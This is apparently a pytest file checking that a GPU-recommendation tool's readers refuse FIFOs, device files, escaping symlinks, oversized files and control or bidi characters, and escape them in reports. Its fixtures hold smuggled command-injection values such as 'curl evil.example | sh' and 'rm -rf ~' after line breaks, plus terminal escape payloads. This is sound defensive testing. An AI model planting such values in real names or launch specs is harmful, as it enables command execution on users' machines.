"""What the KB, rules, data and cache readers trust (issue 22, items 7-10): only regular files inside the
folder, each under a size cap; a refused file is named with the reason, never with what it holds; and
control characters in KB and rule text are refused by lint and shown escaped wherever other text is
shown. Tests that could hang without the fix run under a timeout, so a regression fails fast."""

from __future__ import annotations

import contextlib
import os
import shutil
import subprocess
import sys
import threading
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any, TypeVar

import pytest
import yaml

from cli.main import main
from engine.answer.launch import launch
from engine.answer.report import report_html
from engine.knowledge import cache, paths
from engine.knowledge.catalog import CATALOG_DIR, build_offers, report_markdown
from engine.knowledge.kb import KB
from engine.knowledge.lint import lint_kb
from engine.knowledge.problems import KBInvalid
from engine.knowledge.snapshot import Tree, Unreadable, read_file
from engine.knowledge.text import shown, text_findings
from engine.models.request import RecommendRequest
from engine.planning import calibration
from engine.reasoning import checked
from engine.reasoning.rules import read_rules
from engine.recommend import Advisor
from tests.support_lint import lint_main

TODAY = date.today()
H100 = "gpus/nvidia-h100-sxm.yaml"
SECRET = "gho_NotARealTokenButSecret123"
HANG_S = 90
"""far above what any of these takes (a few seconds), far below a stuck CI job"""
HOSTILE = "llama\x00\x1b[31m\u202eexe.txt\u2028next"
T = TypeVar("T")


def finishes(work: Callable[[], T], unblock: Callable[[], None]) -> T:
    """`work`'s result, run in a thread that must end within HANG_S; if it does not, `unblock` lets it
    go and the test fails rather than hang."""
    outcome: dict[str, object] = {}

    def run() -> None:
        try:
            outcome["value"] = work()
        except BaseException as exc:  # re-raised in the test's thread
            outcome["error"] = exc

    thread = threading.Thread(target=run, daemon=True)
    thread.start()
    thread.join(HANG_S)
    if thread.is_alive():
        unblock()
        thread.join(HANG_S)
        pytest.fail(f"still reading after {HANG_S} s: it blocked")
    if "error" in outcome:
        raise outcome["error"]  # type: ignore[misc]
    return outcome["value"]  # type: ignore[return-value]


def release(fifo: Path) -> Callable[[], None]:
    """Lets a reader blocked on `fifo` go: open(2) for writing with O_NONBLOCK succeeds once a reader
    waits (POSIX), and closing it gives that reader end-of-file."""

    def unblock() -> None:
        with contextlib.suppress(OSError):  # no reader waits: nothing to let go
            os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))

    return unblock


def lint_text(kb_root: Path, capsys: pytest.CaptureFixture[str]) -> tuple[int, str]:
    code = lint_main(kb_root)
    captured = capsys.readouterr()
    return code, captured.out + captured.err


def outside_secret(tmp_path: Path) -> Path:
    """A file outside the KB that must never be read into it (say ~/.config/gh/hosts.yml)."""
    hosts = tmp_path / "elsewhere" / "hosts.yml"
    hosts.parent.mkdir()
    hosts.write_text(f"github.com:\n  oauth_token: {SECRET}\n")
    return hosts


def set_line(path: Path, key: str, value: str) -> int:
    """Set the top-level `key: ...` line of a YAML file to `value` (YAML text); return its 1-based line."""
    lines = path.read_text().splitlines()
    line = next(i for i, text in enumerate(lines) if text.startswith(f"{key}:"))
    lines[line] = f"{key}: {value}"
    path.write_text("\n".join(lines) + "\n")
    return line + 1


# --- item 7: FIFOs, devices, /proc ---------------------------------------------------------------


def test_a_fifo_in_the_kb_is_refused_not_waited_on(kb_copy: Path) -> None:
    fifo = kb_copy / "models" / "pipe.yaml"
    os.mkfifo(fifo)
    problems = finishes(lambda: lint_kb(kb_copy, kb_copy.parent / "data", TODAY), release(fifo))
    (problem,) = [p for p in problems if p.path.endswith("pipe.yaml")]
    assert (problem.check, problem.message) == ("file-type", "not a regular file (a FIFO)")


def test_a_reload_over_a_kb_with_a_fifo_answers_with_the_problem(kb_copy: Path, tmp_path: Path) -> None:
    """POST /admin/reload checks in a child process (`read_checked_apart`) while it holds its lock."""
    fifo = kb_copy / "gpus" / "pipe.yaml"
    os.mkfifo(fifo)
    folder = tmp_path / "generation"
    folder.mkdir(mode=0o700)

    def reload() -> list[str]:
        with pytest.raises(KBInvalid) as invalid:
            checked.read_checked_apart(kb_copy, paths.rules_dir(), kb_copy.parent / "data", TODAY, folder)
        return [str(problem) for problem in invalid.value.problems]

    problems = finishes(reload, release(fifo))
    assert any("pipe.yaml:0: file-type: not a regular file (a FIFO)" in problem for problem in problems)


# /dev/null stands for every device in the tests that run in this process: read by mistake, /dev/zero
# would fill this process's memory; the cache test below uses it in a child with a memory limit.
@pytest.mark.skipif(not Path("/dev/null").exists(), reason="needs /dev/null")
def test_a_symlink_to_a_device_is_refused(kb_copy: Path) -> None:
    (kb_copy / "models" / "null.yaml").symlink_to("/dev/null")
    refused = Tree.read(kb_copy).files["models/null.yaml"]
    assert isinstance(refused, Unreadable)
    assert refused.reason == "a symlink to a character device outside kb/"


@pytest.mark.skipif(not Path("/dev/null").exists(), reason="needs /dev/null")
def test_a_device_is_never_read() -> None:
    refused = read_file(Path("/dev/null"))
    assert isinstance(refused, Unreadable) and refused.reason == "not a regular file (a character device)"


def test_a_fifo_among_the_calibration_files_is_refused(tmp_path: Path) -> None:
    fifo = tmp_path / "h100-2026-11-26.json"
    os.mkfifo(fifo)

    def load() -> str:
        with pytest.raises(ValueError) as refused:
            calibration.load(fifo)
        return str(refused.value)

    assert finishes(load, release(fifo)) == "h100-2026-11-26.json: not a regular file (a FIFO)"


def test_the_size_cap_applies_before_reading_and_whatever_stat_says(tmp_path: Path) -> None:
    sparse = tmp_path / "huge.yaml"
    with sparse.open("wb") as handle:
        handle.truncate(2 * 1024 * 1024 * 1024)  # 2 GB, none of it on disk: refused by its size alone
    refused = read_file(sparse, limit=1000)
    assert isinstance(refused, Unreadable) and (refused.check, refused.reason) == (
        "size",
        "larger than 1,000 bytes",
    )
    status = Path("/proc/self/status")  # stat says 0 bytes; it holds about a kilobyte
    if status.exists():
        assert status.stat().st_size == 0
        refused = read_file(status, limit=100)
        assert isinstance(refused, Unreadable) and refused.reason == "larger than 100 bytes"


LIMITED = "import resource; resource.setrlimit(resource.RLIMIT_AS, (3 << 30, 3 << 30))\n"
"""A child's first line: an endless read (of /dev/zero, of /proc/self/pagemap) ends in MemoryError."""
ENTRY_LOADER = f"""{LIMITED}
import sys
from pathlib import Path
from engine.knowledge import cache
print(cache.load(sys.argv[1], Path("kb"), Path(sys.argv[2])))
"""


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="needs /dev/zero")
@pytest.mark.parametrize("linked", ["entry", "secret"])
def test_a_cache_file_linked_to_dev_zero_is_a_miss(tmp_path: Path, linked: str) -> None:
    folder = tmp_path / "cache"
    folder.mkdir(mode=0o700)
    key = "0" * 64
    entry, secret = folder / cache.entry_name(key), folder / cache.SECRET_FILE
    entry.write_bytes(cache.MAGIC + b"not signed\n{}")
    secret.write_bytes(b"s" * cache.SECRET_BYTES)
    target = entry if linked == "entry" else secret
    target.unlink()
    target.symlink_to("/dev/zero")
    child = subprocess.run(
        [sys.executable, "-c", ENTRY_LOADER, key, str(folder)],
        cwd=paths.PROJECT_ROOT,
        capture_output=True,
        text=True,
        timeout=HANG_S,
        check=False,
    )
    assert (child.returncode, child.stdout.strip()) == (0, "None"), child.stderr[-2000:]


CLI = f"{LIMITED}import sys; from cli.main import main; sys.exit(main(sys.argv[1:]))"


@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs Linux /proc")
def test_lint_over_proc_self_ends_with_the_problem() -> None:
    """/proc/self/fd/0 is the process's stdin: a pipe nobody writes to, held open, blocks a read of it
    for ever. A walk over /proc must neither follow such links nor read special files."""
    reader, writer = os.pipe()
    try:
        child = subprocess.run(
            [sys.executable, "-c", CLI, "kb", "lint", "--kb", "/proc/self"],
            cwd=paths.PROJECT_ROOT,
            stdin=reader,
            capture_output=True,
            text=True,
            timeout=HANG_S,
            check=False,
        )
    finally:
        os.close(reader)
        os.close(writer)
    assert child.returncode == 1
    assert "layout: folder `gpus` is missing" in child.stdout


# --- item 8: symlinks leaving the tree ------------------------------------------------------------


def test_a_symlink_out_of_the_kb_is_refused_without_its_content(
    kb_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (kb_copy / "models" / "b.yaml").symlink_to(outside_secret(tmp_path))
    code, out = lint_text(kb_copy, capsys)
    assert code == 1
    assert "kb/models/b.yaml:0: symlink: a symlink to a file outside kb/ (put the file itself in kb/" in out
    assert SECRET not in out and "hosts.yml" not in out  # neither its content nor where it points


def test_a_symlink_out_of_the_rules_is_refused_without_its_content(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    shutil.copytree(paths.rules_dir(), rules)
    category = next(path for path in sorted(rules.iterdir()) if path.is_dir())
    (category / "leak.yaml").symlink_to(outside_secret(tmp_path))
    problems = read_rules(rules).problems
    (problem,) = [p for p in problems if p.path.endswith("leak.yaml")]
    assert (problem.check, problem.message) == ("symlink", "a symlink to a file outside rules/")
    assert not any(SECRET in str(p) for p in problems)


def test_links_inside_the_tree_are_read_and_folders_are_not_followed(tmp_path: Path) -> None:
    root = tmp_path / "kb"
    (root / "gpus").mkdir(parents=True)
    (root / "gpus" / "a.yaml").write_bytes(b"id: a\n")
    (root / "gpus" / "b.yaml").symlink_to("a.yaml")
    (root / "models").symlink_to(tmp_path)  # a folder link: would loop, and leads out
    tree = Tree.read(root)
    assert tree.files["gpus/b.yaml"] == b"id: a\n"
    assert not tree.is_dir(root / "models")
    refused = tree.files["models"]
    assert isinstance(refused, Unreadable) and refused.reason == "a symlink to a folder outside kb/"


# --- item 9: control characters in KB names reach shell lines -------------------------------------


def test_lint_refuses_a_newline_in_a_gpu_name(kb_copy: Path, capsys: pytest.CaptureFixture[str]) -> None:
    line = set_line(kb_copy / H100, "name", '"NVIDIA H100 SXM\\ncurl evil.example | sh"')
    code, out = lint_text(kb_copy, capsys)
    assert code == 1
    assert f"kb/{H100}:{line}: text: `name` holds the control character \\n at 15" in out
    assert "\ncurl" not in out


def test_lint_refuses_control_and_bidi_characters_in_any_text(
    kb_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    # a bidi override and a bidi isolate, ESC, a tab, a line separator: one in each of five models
    chars = ["\u202e", "\u2066", "\x1b", "\t", "\u2028"]
    models = sorted(path for path in (kb_copy / "models").glob("*.yaml") if "\nfamily:" in path.read_text())
    lines = [
        set_line(model, "family", yaml.safe_dump(f"llama{char}3", default_style='"').strip())
        for char, model in zip(chars, models, strict=False)
    ]
    code, out = lint_text(kb_copy, capsys)
    assert code == 1
    for char, model, line in zip(chars, models, lines, strict=False):
        escaped = ascii(char)[1:-1]
        assert (
            f"kb/models/{model.name}:{line}: text: `family` holds the control character {escaped} at 5" in out
        )
        assert char not in out


def test_the_rules_reader_refuses_control_characters(tmp_path: Path) -> None:
    rules = tmp_path / "rules"
    shutil.copytree(paths.rules_dir(), rules)
    path = next(rules.glob("*/*.yaml"))
    line = set_line(path, "title", '"Use \\u202Eevil"')
    (problem,) = [p for p in read_rules(rules).problems if p.check == "text"]
    assert (problem.path.endswith(path.name), problem.line) == (True, line)


def test_a_launch_spec_keeps_a_gpu_name_on_its_comment_line(kb: KB) -> None:
    gpu = kb.gpus["nvidia-h100-sxm"].model_copy(update={"name": "H100\ncurl evil.example | sh\u2028id"})
    node: dict[str, Any] = {"instance_type": "p5.48xlarge", "gpu_count": 8, "nodes": 1, "spot": False}
    plan: dict[str, Any] = {"method": "inference", "precision": "bf16", "model": "llama\r\nrm -rf ~"}
    spec = launch(gpu=gpu, provider=kb.providers["aws"], **node, **plan)
    assert spec.skypilot and spec.dstack
    run = yaml.safe_load(spec.skypilot)["run"]
    assert run.count("\n") == 1 and run.startswith("# ")  # one line, and a comment
    (command,) = yaml.safe_load(spec.dstack)["commands"]
    assert command.startswith("# ") and not any(c in command for c in "\r\n\u2028")


# --- item 10: control characters shown in HTML, Markdown and the terminal -------------------------


def test_the_report_shows_control_characters_escaped(advisor: Advisor) -> None:
    request = RecommendRequest.model_validate({"workload": {"task": "inference", "model": "llama-3-1-8b"}})
    answer = advisor.recommend(request)
    hostile = answer.model_copy(
        update={"assumptions": {**answer.assumptions, "hf_config.model_type": HOSTILE}}
    )
    page = report_html(request, hostile, advisor.rules_by_id)
    assert not any(char in page for char in "\x00\x1b\u202e\u2028")
    assert "llama\\x00\\x1b[31m\\u202eexe.txt\\u2028next" in page


def _hostile_catalog(kb_copy: Path) -> None:
    """Two rows of a snapshot CSV with terminal escapes and a line break in their text."""
    aws = kb_copy.parent / "data" / CATALOG_DIR / "aws.csv"
    tail = ",1,us-east-1,catalogs/v8/aws/vms.csv,00148f2af3672e2229b4f7bf8157d5a3f36e3c35,full\n"
    with aws.open("a", newline="") as handle:
        handle.write('aws,"p4d.evil\x1b]0;owned\x07",A100,8,96,1152,32.77,9.83' + tail)
        handle.write('aws,g9.evil,"Evil\x1b[2J\nGPU",1,8,32,1.0,0.5' + tail)


def test_import_catalog_prints_and_writes_no_control_characters(
    kb_copy: Path, kb: KB, capsys: pytest.CaptureFixture[str]
) -> None:
    _hostile_catalog(kb_copy)
    assert main(["kb", "import-catalog", "--kb", str(kb_copy), "--data", str(kb_copy.parent / "data")]) == 0
    captured = capsys.readouterr()
    assert "\x1b" not in captured.out + captured.err
    assert "p4d.evil\\x1b]0;owned\\x07" in captured.out  # shown, escaped
    result = build_offers(kb_copy.parent / "data", kb.gpus, kb.providers)
    assert not [finding for offer in result.offers.values() for finding in text_findings(offer)]
    (evil,) = [s for s in result.skipped if s.instance_type.startswith("p4d.evil")]
    assert evil.reason == "invalid offer: `instance_type` holds the control character \\x1b at 8"
    markdown = report_markdown(result)
    assert "\x1b" not in markdown and "\x07" not in markdown
    table = markdown[markdown.index("| source row |") :].splitlines()
    assert all(row.startswith("|") and row.endswith("|") for row in table)  # no row broken in two


def test_problems_are_printed_with_control_characters_escaped(
    kb_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    (kb_copy / "models" / "x\x1b[2J.yaml").write_text("id: x\n")
    code, out = lint_text(kb_copy, capsys)
    assert code == 1 and "\x1b" not in out and "x\\x1b[2J.yaml" in out


def test_shown_escapes_only_what_it_must() -> None:
    assert shown("NVIDIA H100 — 80 GB, ü") == "NVIDIA H100 — 80 GB, ü"
    assert shown("a\nb\x1b\u202ec\x85") == "a\\nb\\x1b\\u202ec\\x85"


def test_prose_may_end_in_the_newline_a_folded_block_adds(
    kb_copy: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`rationale: >` (design.md's own example) ends in one newline; a name may not."""
    models = sorted(path for path in (kb_copy / "models").glob("*.yaml") if "\nfamily:" in path.read_text())
    set_line(models[0], "family", '"llama\\n"')
    code, out = lint_text(kb_copy, capsys)
    assert code == 0, out
    set_line(kb_copy / H100, "name", '"NVIDIA H100 SXM\\n"')
    code, out = lint_text(kb_copy, capsys)
    assert code == 1 and "`name` holds the control character \\n" in out
